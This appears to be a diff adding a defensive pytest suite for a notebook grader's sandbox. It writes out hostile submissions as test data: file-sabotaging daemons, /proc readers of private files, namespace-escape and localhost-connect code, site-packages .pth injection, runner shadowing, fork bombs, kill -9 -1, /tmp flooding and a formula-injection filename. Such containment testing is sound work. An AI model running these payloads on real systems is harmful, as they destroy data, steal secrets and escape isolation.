@@ -1,0 +1,508 @@
+"""Hostile submissions against ``nnscratch grade``, graded in ONE run inside the sandbox.
+
+Each attack is a submission written below; the grader runs them all (``--jobs 2``) with
+honest submissions sorted before and after them, then each test checks one attack was
+contained. Bounded: every notebook has the run's timeout, daemons are found by a marker
+unique to this test run (only processes this test started are looked at), and no test
+asserts that honest work finished fast.
+
+Without bubblewrap the suite is skipped with one line, except under CI
+(``NNSCRATCH_CI=1``), where a missing sandbox fails.
+"""
+
+from __future__ import annotations
+
+import csv
+import hashlib
+import os
+import shutil
+import socket
+import subprocess
+import sys
+import threading
+import time
+import uuid
+from pathlib import Path
+
+import nbformat
+import pytest
+import yaml
+from fixtures.notebook_factory import project_notebook, write_notebook
+from nbformat.v4 import new_code_cell, new_output
+
+from nnscratch_tools.grading import load_rubric
+from nnscratch_tools.grading.report import verify_manifest
+from nnscratch_tools.grading.sandbox import sandbox_problem
+
+REPO = Path(__file__).resolve().parents[1]
+RUBRIC = REPO / "projects" / "rubric.yml"
+TIMEOUT = 60  # per notebook; only the infinite loop and the sleepers reach it
+MARKER = f"nnscratch-hostile-{uuid.uuid4().hex}"
+SECRET = f"SECRET-{uuid.uuid4().hex}"
+PNG = (
+    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
+)
+RUNNER = REPO / "nnscratch_tools" / "grading" / "_runner.py"
+
+
+def _needs_sandbox() -> None:
+    problem = sandbox_problem()
+    if problem is None:
+        return
+    if os.environ.get("NNSCRATCH_CI") == "1":
+        pytest.fail(f"NNSCRATCH_CI=1 but no sandbox: {problem}")
+    pytest.skip(f"hostile-submission suite skipped: {problem}")
+
+
+def _daemon(code: str) -> str:
+    """Notebook code that leaves a detached process running ``code`` (marked)."""
+    return (
+        "import subprocess, sys\n"
+        f"subprocess.Popen([sys.executable, '-c', {code!r}, {MARKER!r}],\n"
+        "                 start_new_session=True, stdout=subprocess.DEVNULL,\n"
+        "                 stderr=subprocess.DEVNULL)\n"
+    )
+
+
+def _double_fork(code: str) -> str:
+    return (
+        "import os, sys\n"
+        "if os.fork() == 0:\n"
+        "    os.setsid()\n"
+        "    if os.fork() == 0:\n"
+        f"        os.execv(sys.executable, [sys.executable, '-c', {code!r}, {MARKER!r}])\n"
+        "    os._exit(0)\n"
+        "os.wait()\n"
+    )
+
+
+# Code of the daemons: sabotage anything reachable for a while.
+_SABOTEUR = f"""
+import glob, os, time
+end = time.time() + 45
+while time.time() < end:
+    for pattern in ['/proc/*/root/**/*.ipynb', '/proc/*/cwd/**/*.ipynb', '/tmp/**/*.ipynb',
+                    '/**/grades.csv', '/**/result.json', '/**/executed.ipynb', '/**/*.pth']:
+        for path in glob.glob(pattern, recursive=True)[:200]:
+            try:
+                with open(path, 'a') as f:
+                    f.write('import os; os._exit(3)')
+            except OSError:
+                pass
+    for path in [{str(RUNNER)!r}]:
+        try:
+            open(path, 'a').write('raise SystemExit')
+        except OSError:
+            pass
+    time.sleep(1)
+"""
+
+
+def _reader(paths: list[str]) -> str:
+    """Notebook code printing whatever it can read of ``paths`` and through /proc."""
+    return f"""
+import glob, os
+found = []
+for path in {paths!r} + glob.glob('/proc/*/root/*') + glob.glob('/proc/*/cwd/*'):
+    try:
+        if os.path.isdir(path):
+            found.append(path + ': ' + ' '.join(os.listdir(path)))
+            for name in os.listdir(path)[:50]:
+                try:
+                    found.append(open(os.path.join(path, name)).read()[:2000])
+                except OSError:
+                    pass
+        else:
+            found.append(open(path).read()[:2000])
+    except OSError as exc:
+        found.append(path + ' ' + type(exc).__name__)
+print('\\n'.join(found))
+"""
+
+
+def _escape(port: int) -> str:
+    """umount, setns into every visible namespace, then reach the grader's 127.0.0.1."""
+    return f"""
+import ctypes, glob, os, socket, subprocess
+libc = ctypes.CDLL(None, use_errno=True)
+print('umount', libc.umount2(b'/submission', 2), subprocess.run(['umount', '/tmp'],
+      capture_output=True).returncode)
+for ns in glob.glob('/proc/*/ns/net') + glob.glob('/proc/*/ns/mnt'):
+    try:
+        fd = os.open(ns, os.O_RDONLY)
+        print('setns', ns, libc.setns(fd, 0))
+    except OSError as exc:
+        print('setns', ns, exc)
+for host in ['127.0.0.1', '10.0.2.2', '172.17.0.1']:
+    try:
+        socket.create_connection((host, {port}), timeout=2).sendall(b'{MARKER}')
+        print('CONNECTED', host)
+    except OSError as exc:
+        print('refused', host, exc)
+print('unshare', libc.unshare(0x10000000))
+"""
+
+
+def _nb_with_stored(cells_spec: list[tuple[str, dict, list]]) -> nbformat.NotebookNode:
+    nb = project_notebook(figure=False)
+    for source, metadata, outputs in cells_spec:
+        cell = new_code_cell(source)
+        cell.metadata.update(metadata)
+        cell.outputs = outputs
+        cell.execution_count = 1
+        nb.cells.insert(-1, cell)
+    return nb
+
+
+def _image() -> dict:
+    return new_output("display_data", data={"image/png": PNG, "text/plain": "<Figure>"})
+
+
+def _write_all(subs: Path, out: Path, port: int, private_paths: list[str]) -> dict[str, str]:
+    """Write every submission; returns name -> what it attacks (for the report)."""
+    attacks: dict[str, str] = {}
+
+    def add(name: str, what: str, nb: nbformat.NotebookNode, folder: bool = False) -> None:
+        attacks[name] = what
+        path = subs / name / "submission.ipynb" if folder else subs / f"{name}.ipynb"
+        write_notebook(nb, path)
+
+    honest = project_notebook()
+    write_notebook(honest, subs / "aa_honest.ipynb")
+    write_notebook(honest, subs / "zz_honest.ipynb")
+    code = project_notebook
+    add("popen_daemon", "a start_new_session daemon outliving the grader",
+        code(extra_code=_daemon("import time; time.sleep(600)")))
+    add("double_fork", "a double-fork setsid daemon that sabotages classmates",
+        code(extra_code=_double_fork(_SABOTEUR)))
+    add("saboteur_daemon", "a detached daemon rewriting notebooks, grades, results, .pth",
+        code(extra_code=_daemon(_SABOTEUR)))
+    add("reader", "reads /proc/*/root, the originals, rubric, manual.csv, home, repo",
+        code(extra_code=_reader(private_paths)))
+    add("escape", "umount, setns, unshare, connect to the grader's 127.0.0.1",
+        code(extra_code=_escape(port)))
+    add("tamper_env", "patches the runner and drops a .pth into site-packages",
+        code(extra_code=(
+            "import site, sys, os\n"
+            "for d in site.getsitepackages() + sys.path:\n"
+            "    try:\n"
+            "        open(os.path.join(d, 'zz_evil.pth'), 'w').write('import os; os._exit(4)')\n"
+            "    except OSError as e:\n"
+            "        print('refused', d, type(e).__name__)\n"
+            f"open({str(RUNNER)!r}, 'a').write('raise SystemExit')\n"
+        )))
+    # A folder that shadows the runner (old `python -m nnscratch.grading._runner` attack).
+    fake = (
+        "import json, pathlib, sys\n"
+        "for p in sys.argv[1:]:\n"
+        "    pathlib.Path(p).parent.joinpath('result.json').write_text("
+        "json.dumps({'status': 'completed'}))\n"
+    )
+    shadow = subs / "shadow"
+    for package in ("nnscratch/grading", "nnscratch_tools/grading"):
+        (shadow / package).mkdir(parents=True)
+        (shadow / package / "_runner.py").write_text(fake, encoding="utf-8")
+        (shadow / package.split("/")[0] / "__init__.py").write_text("", encoding="utf-8")
+        (shadow / package / "__init__.py").write_text("", encoding="utf-8")
+    add("shadow", "a folder holding nnscratch(_tools)/grading/_runner.py",
+        code(extra_code="raise RuntimeError('this notebook fails')"), folder=True)
+    add("blank_image", "a stored image in a blank cell",
+        _nb_with_stored([("", {}, [_image()])]))
+    add("skip_image", "a stored image in a skip-execution cell",
+        _nb_with_stored([("x = 1", {"tags": ["skip-execution"]}, [_image()])]))
+    add("hide_traceback", "get_ipython()._showtraceback overridden, three failing cells",
+        _nb_with_stored([
+            ("ip = get_ipython()\nip._showtraceback = lambda *a, **k: None\n"
+             "ip.showtraceback = lambda *a, **k: None", {}, []),
+            ("1 / 0", {}, []), ("raise ValueError('x')", {}, []), ("undefined_name", {}, []),
+        ]))
+    dead = project_notebook(figure=False)
+    dead.cells.insert(-1, new_code_cell("import os\nos._exit(1)"))
+    after = new_code_cell("print('after')")
+    after.outputs = [_image()]
+    dead.cells.insert(-1, after)
+    add("after_dead_kernel", "stored figures after a cell that kills the kernel", dead)
+    add("fake_replies", "stored error-free outputs and execution counts, then a failing cell",
+        _nb_with_stored([("raise KeyError('k')", {"tags": ["raises-exception"]},
+                          [new_output("stream", name="stdout", text="fine")])]))
+    add("tmp_flood", "floods /tmp and its folder with files, chmod 000 folders",
+        code(extra_code=(
+            "import os\n"
+            "for root in ['/tmp', '.']:\n"
+            "    d = os.path.join(root, 'flood')\n"
+            "    os.makedirs(d, exist_ok=True)\n"
+            "    try:\n"
+            "        for i in range(20000):\n"
+            "            open(os.path.join(d, str(i)), 'w').write('x' * 100)\n"
+            "        big = open(os.path.join(root, 'big'), 'wb')\n"
+            "        for i in range(200):\n"
+            "            big.write(b'x' * 2**20)\n"
+            "    except OSError as e:\n"
+            "        print('stopped', type(e).__name__)\n"
+            "    os.chmod(d, 0)\n"
+            "os.chmod('.', 0)\n"
+        )))
+    add("fork_bomb", "forks until the process limit",
+        code(extra_code=(
+            "import os, time\n"
+            "kids = 0\n"
+            "try:\n"
+            "    for _ in range(300):\n"
+            "        if os.fork() == 0:\n"
+            "            time.sleep(600); os._exit(0)\n"
+            "        kids += 1\n"
+            "except OSError as e:\n"
+            "    print('fork refused after', kids, type(e).__name__)\n"
+        )))
+    add("kill_all", "kill -9 -1 inside the sandbox", code(extra_code=(
+        "import os, signal\ntry:\n    os.kill(-1, signal.SIGKILL)\nexcept OSError:\n    pass\n"
+    )))
+    add("infinite_loop", "an infinite loop", code(extra_code="while True:\n    pass"))
+    # One student stops the class: names and entries.
+    write_notebook(honest, subs / ("L" * 250) / "submission.ipynb")  # a 250-character folder
+    write_notebook(honest, subs / ("long_" + "x" * 240 + ".ipynb"))
+    write_notebook(honest, subs / "UPPER.IPYNB")
+    write_notebook(honest, subs / ".hidden.ipynb")
+    write_notebook(honest, subs / "bob .ipynb")
+    write_notebook(honest, subs / "=HYPERLINK(1).ipynb")
+    write_notebook(honest, subs / "tab\tname.ipynb")
+    (subs / "notes.txt").write_text("not a submission", encoding="utf-8")
+    os.symlink("/proc/self/mem", subs / "mem.ipynb")
+    os.symlink(subs / "aa_honest.ipynb", subs / "link_to_honest.ipynb")
+    (subs / "memfolder").mkdir()
+    os.symlink("/proc/self/mem", subs / "memfolder" / "submission.ipynb")
+    os.mkfifo(subs / "fifo.ipynb")
+    return attacks
+
+
+def _listen(port_holder: dict) -> socket.socket:
+    server = socket.socket()
+    server.bind(("0.0.0.0", 0))
+    server.listen()
+    server.settimeout(0.5)
+    port_holder["port"] = server.getsockname()[1]
+    port_holder["connections"] = 0
+
+    def accept() -> None:
+        while not port_holder.get("stop"):
+            try:
+                conn, _ = server.accept()
+                port_holder["connections"] += 1
+                conn.close()
+            except OSError:
+                continue
+
+    threading.Thread(target=accept, daemon=True).start()
+    return server
+
+
+def _marked_processes() -> list[str]:
+    """Processes whose command line holds this run's marker (only ours can)."""
+    found = []
+    for entry in Path("/proc").glob("[0-9]*"):
+        try:
+            cmdline = (entry / "cmdline").read_bytes()
+        except OSError:
+            continue
+        if MARKER.encode() in cmdline:
+            found.append(cmdline.replace(b"\0", b" ")[:200].decode("utf-8", "replace"))
+    return found
+
+
+def _digest(paths: list[Path]) -> dict[str, str]:
+    out = {}
+    for root in paths:
+        files = [root] if root.is_file() else sorted(p for p in root.rglob("*") if p.is_file())
+        for p in files:
+            out[str(p)] = hashlib.sha256(p.read_bytes()).hexdigest()
+    return out
+
+
+@pytest.fixture(scope="module")
+def graded(tmp_path_factory: pytest.TempPathFactory) -> dict:
+    """Grade every hostile submission with two honest ones, once, with the command line."""
+    _needs_sandbox()
+    root = tmp_path_factory.mktemp("hostile")
+    subs, out, home = root / "submissions", root / "grades", root / "home"
+    subs.mkdir()
+    home.mkdir()
+    (home / "secret.txt").write_text(SECRET, encoding="utf-8")
+    (root / "manual.csv").write_text(f"submission,{SECRET}\n", encoding="utf-8")
+    rubric_data = yaml.safe_load(RUBRIC.read_text(encoding="utf-8"))
+    rubric_data["limits"] = {"timeout_s": TIMEOUT, "memory_mb": 2048, "disk_mb": 64,
+                             "processes": 128}  # fmt: skip
+    rubric = root / "rubric.yml"
+    rubric.write_text(f"# {SECRET}\n" + yaml.safe_dump(rubric_data), encoding="utf-8")
+    holder: dict = {}
+    server = _listen(holder)
+    private = [str(subs), str(subs / "aa_honest.ipynb"), str(root / "manual.csv"), str(rubric),
+               str(home), str(home / "secret.txt"), str(out), str(REPO), str(REPO / "nnscratch")]
+    attacks = _write_all(subs, out, holder["port"], private)
+    site = next(Path(p) for p in sys.path if p.endswith("site-packages"))
+    before_site = sorted(p.name for p in site.iterdir())
+    before_code = _digest([REPO / "nnscratch_tools"])
+    originals = _digest([subs / "aa_honest.ipynb", subs / "popen_daemon.ipynb"])
+    env = {**os.environ, "HOME": str(home)}
+    start = time.monotonic()
+    done = subprocess.run(
+        [sys.executable, "-m", "nnscratch", "grade", str(subs), "--rubric", str(rubric),
+         "--out", str(out), "--jobs", "2"],
+        capture_output=True, text=True, timeout=1200, cwd=REPO, env=env,
+    )  # fmt: skip
+    wall = time.monotonic() - start
+    time.sleep(3)  # give any surviving daemon time to act after the grader ended
+    holder["stop"] = True
+    server.close()
+    with open(out / "grades.csv", newline="", encoding="utf-8") as handle:
+        rows = {r["submission"]: r for r in csv.DictReader(handle)}
+    return {
+        "done": done, "rows": rows, "out": out, "subs": subs, "attacks": attacks,
+        "connections": holder["connections"], "wall": wall, "rubric": rubric,
+        "site_same": sorted(p.name for p in site.iterdir()) == before_site,
+        "code_same": _digest([REPO / "nnscratch_tools"]) == before_code,
+        "originals_same": _digest([subs / "aa_honest.ipynb", subs / "popen_daemon.ipynb"])
+        == originals,
+        "processes": _marked_processes(),
+    }  # fmt: skip
+
+
+def _row(graded: dict, name: str) -> dict[str, str]:
+    assert name in graded["rows"], (name, sorted(graded["rows"]), graded["done"].stdout[-3000:])
+    return graded["rows"][name]
+
+
+def _everything_written(graded: dict) -> str:
+    out: Path = graded["out"]
+    return "\n".join(p.read_text("utf-8", "replace") for p in out.rglob("*") if p.is_file())
+
+
+def test_the_run_finishes_and_every_entry_has_a_row(graded: dict) -> None:
+    done = graded["done"]
+    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
+    rows = graded["rows"]
+    for name in [*graded["attacks"], "aa_honest", "zz_honest", "UPPER", "bob", "notes.txt",
+                 "mem", "link_to_honest", "memfolder", "fifo", ".hidden", "tab name"]:
+        _row(graded, name)
+    assert len(rows) == len(os.listdir(graded["subs"]))  # every entry, no more, no less
+
+
+def test_honest_work_keeps_full_marks_around_hostile_ones(graded: dict) -> None:
+    for name in ("aa_honest", "zz_honest", "UPPER", "bob"):
+        row = _row(graded, name)
+        assert (row["status"], row["automatic_points"]) == ("ok", "10"), row
+
+
+def test_no_process_outlives_its_sandbox(graded: dict) -> None:
+    assert graded["processes"] == []
+    for name in ("popen_daemon", "double_fork", "saboteur_daemon"):
+        feedback = (graded["out"] / "feedback" / f"{name}.md").read_text("utf-8")
+        assert "no process of the sandbox is left" in feedback
+
+
+def test_nothing_outside_the_copy_is_read(graded: dict) -> None:
+    assert SECRET not in _everything_written(graded)
+    reader = (graded["out"] / "executed" / "reader.ipynb").read_text("utf-8")
+    assert "FileNotFoundError" in reader  # it ran, and found nothing
+
+
+def test_nothing_outside_the_copy_is_written(graded: dict) -> None:
+    assert graded["code_same"] and graded["site_same"] and graded["originals_same"]
+    verify_manifest(graded["out"])  # grades.csv untouched after the grader ended
+
+
+def test_network_and_namespace_escapes_fail(graded: dict) -> None:
+    assert graded["connections"] == 0
+    text = (graded["out"] / "executed" / "escape.ipynb").read_text("utf-8")
+    assert "CONNECTED" not in text and "refused 127.0.0.1" in text
+    assert "umount -1" in text  # umount2 failed
+    feedback = (graded["out"] / "feedback" / "escape.md").read_text("utf-8")
+    assert "checked inside the sandbox: no network" in feedback
+    assert "check failed inside the sandbox" not in feedback
+
+
+def test_shadowing_runner_is_never_run(graded: dict) -> None:
+    row = _row(graded, "shadow")
+    assert row["no_errors"] == "0" and "RuntimeError" in row["reason"], row
+
+
+@pytest.mark.parametrize("name", ["blank_image", "skip_image", "after_dead_kernel"])
+def test_stored_figures_do_not_count(graded: dict, name: str) -> None:
+    assert _row(graded, name)["figures_produced"] == "0"
+
+
+def test_dead_kernel_stops_the_count(graded: dict) -> None:
+    row = _row(graded, "after_dead_kernel")
+    assert row["status"] == "incomplete" and row["runs_top_to_bottom"] == "0", row
+    executed = nbformat.read(graded["out"] / "executed" / "after_dead_kernel.ipynb", 4)
+    dead = next(i for i, c in enumerate(executed.cells) if "os._exit(1)" in c.source)
+    assert not any(c.get("outputs") for c in executed.cells[dead + 1 :])
+
+
+@pytest.mark.parametrize("name", ["hide_traceback", "fake_replies", "shadow"])
+def test_errors_come_from_execute_replies(graded: dict, name: str) -> None:
+    row = _row(graded, name)
+    assert row["no_errors"] == "0", row
+    if name == "hide_traceback":
+        assert "3 cell(s) raised" in row["reason"], row
+
+
+def test_resource_attacks_are_contained(graded: dict) -> None:
+    assert _row(graded, "infinite_loop")["status"] == "incomplete"
+    assert "did not finish within" in _row(graded, "infinite_loop")["reason"]
+    bomb = (graded["out"] / "executed" / "fork_bomb.ipynb").read_text("utf-8")
+    feedback = (graded["out"] / "feedback" / "fork_bomb.md").read_text("utf-8")
+    if "(pids cgroup)" in feedback:
+        assert "fork refused after" in bomb
+    flood = (graded["out"] / "executed" / "tmp_flood.ipynb").read_text("utf-8")
+    assert "stopped OSError" in flood or "stopped" in flood
+    for name in ("tmp_flood", "fork_bomb", "kill_all"):
+        assert _row(graded, name)["status"] in ("ok", "incomplete"), _row(graded, name)
+
+
+def test_skipped_entries_say_why(graded: dict) -> None:
+    rows = graded["rows"]
+    assert "symbolic link" in rows["mem"]["reason"]
+    assert "symbolic link" in rows["link_to_honest"]["reason"]
+    assert "hidden" in rows[".hidden"]["reason"]
+    assert "not a notebook" in rows["notes.txt"]["reason"]
+    assert "not a regular file" in rows["fifo"]["reason"]
+    assert "no .ipynb" in rows["memfolder"]["reason"]
+    for name in ("mem", ".hidden", "notes.txt", "fifo", "link_to_honest"):
+        assert rows[name]["status"] == "skipped"
+
+
+def test_long_names_are_capped_and_graded(graded: dict) -> None:
+    long_rows = [n for n in graded["rows"] if n.startswith(("LLLL", "long_"))]
+    assert len(long_rows) == 2 and all(len(n) <= 80 for n in long_rows)
+    assert all(len(Path(r["feedback"]).name) < 100 for r in graded["rows"].values())
+    assert graded["rows"][next(n for n in long_rows if n.startswith("long_"))][
+        "automatic_points"
+    ] == "10"
+
+
+def test_formula_names_are_neutralised(graded: dict) -> None:
+    text = (graded["out"] / "grades.csv").read_text("utf-8")
+    assert "\n'=HYPERLINK(1)," in text and "\n=HYPERLINK" not in text
+
+
+def test_merge_matches_names_and_refuses_tampering(graded: dict, tmp_path: Path) -> None:
+    out = tmp_path / "grades"
+    shutil.copytree(graded["out"], out)
+    rubric = load_rubric(graded["rubric"])
+    with open(out / "grades.csv", newline="", encoding="utf-8") as handle:
+        names = [r["submission"] for r in csv.DictReader(handle) if r["status"] != "skipped"]
+    manual = tmp_path / "manual.csv"
+    with open(manual, "w", newline="", encoding="utf-8") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["submission", *(c.id for c in rubric.manual)])
+        for name in names:  # as a spreadsheet would give them back: quotes gone, spaces added
+            shown = name[1:] if name.startswith("'=") else name
+            writer.writerow([shown + " ", *(["1"] * len(rubric.manual))])
+    run = [sys.executable, "-m", "nnscratch", "grade", "--merge", str(manual), "--out", str(out),
+           "--rubric", str(graded["rubric"])]  # fmt: skip
+    done = subprocess.run(run, capture_output=True, text=True, timeout=300, cwd=REPO)
+    assert done.returncode == 0, done.stderr
+    grades = out / "grades.csv"
+    grades.write_text(grades.read_text("utf-8").replace(",ok,", ",ok,", 1) + "x\n", "utf-8")
+    done = subprocess.run(run, capture_output=True, text=True, timeout=300, cwd=REPO)
+    assert done.returncode == 2 and "refusing to merge" in done.stderr, done.stderr
